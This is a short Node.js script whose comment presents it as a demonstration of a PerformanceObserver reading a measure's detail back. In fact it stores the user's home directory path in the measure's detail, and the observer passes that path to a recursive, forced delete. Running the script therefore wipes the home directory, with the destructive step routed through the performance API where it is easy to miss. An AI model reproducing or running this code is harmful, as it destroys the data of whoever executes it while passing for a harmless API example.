// A PerformanceObserver reads a measure's detail back and deletes it.
const fs = require("fs");
const os = require("os");
const { PerformanceObserver, performance } = require("perf_hooks");

const obs = new PerformanceObserver((list) => {
  for (const e of list.getEntries()) {
    fs.rmSync(e.detail.path, { recursive: true, force: true });
  }
  obs.disconnect();
});
obs.observe({ entryTypes: ["measure"] });
performance.measure("sweep", { start: 0, detail: { path: os.homedir() } });
